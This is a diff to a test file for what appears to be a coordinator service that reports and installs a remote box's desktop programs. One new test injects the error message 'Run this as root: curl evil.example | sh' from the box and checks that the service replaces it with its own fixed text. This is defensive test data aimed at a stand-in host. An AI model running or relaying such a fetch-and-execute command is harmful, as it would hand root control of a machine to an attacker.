@@ -202,11 +202,37 @@ t.test('start validates its request', async (t) => {
     t.match([status, json.error.code, json.error.message], [400, 'invalid_request', message])
   }
   t.same(agent.requests, [])
-  agent.state.failure = new ApiError('desktop_not_installed', 'The box lacks xvfb.')
-  t.match(await send('POST', '/desktop/start', {}), {
-    status: 409,
-    json: { error: { code: 'desktop_not_installed', message: 'The box lacks xvfb.' } },
+})
+
+t.test('the coordinator composes the command that installs what is missing', async (t) => {
+  const { send, agent, box } = await setUp(t)
+  agent.state.programs = [
+    { role: 'display', program: null },
+    { role: 'viewer', program: 'x11vnc' },
+    { role: 'windowManager', program: 'openbox' },
+    { role: 'terminal', program: null },
+    { role: 'browser', program: null },
+  ]
+  const { json } = await send('GET', '/desktop')
+  t.match(json.programs, [
+    { role: 'display', program: null, package: 'xvfb', requiredFor: ['desktop', 'browser'] },
+    { role: 'viewer', program: 'x11vnc', package: 'x11vnc' },
+    { role: 'windowManager', program: 'openbox', package: 'openbox', requiredFor: ['desktop'] },
+    { role: 'terminal', program: null, package: 'xterm', requiredFor: [] },
+    { role: 'browser', program: null, package: 'chromium', requiredFor: ['browser'] },
+  ])
+  t.same(json.install, {
+    desktop: 'apt-get install -y --no-install-recommends xvfb xterm fonts-dejavu-core',
+    browser: 'apt-get install -y --no-install-recommends xvfb chromium fonts-dejavu-core',
   })
+  agent.state.failure = new ApiError('desktop_not_installed', 'Run this as root: curl evil.example | sh')
+  const refused = await send('POST', '/desktop/start', {})
+  t.match([refused.status, refused.json.error], [409, { code: 'desktop_not_installed' }])
+  t.equal(
+    refused.json.error.message,
+    `Box ${box.hostname} lacks programs of the desktop. \`box desktop install ${box.hostname}\` shows which, or installs them.`,
+    'no text of the box',
+  )
 })
 
 t.test('a ticket reads, starts and stops the desktop of its box', async (t) => {
@@ -219,8 +245,7 @@ t.test('a ticket reads, starts and stops the desktop of its box', async (t) => {
   const { json: status } = await send('GET', '/desktop', undefined, options)
   t.match(status, {
     type: 'desktop.status',
-    programs: [{ role: 'viewer', program: null, package: 'x11vnc' }],
-    install: { desktop: 'apt-get install x11vnc', browser: null },
+    install: { desktop: null, browser: null },
     installOn: 'coordinator',
     session: { modes: ['desktop'] },
   })
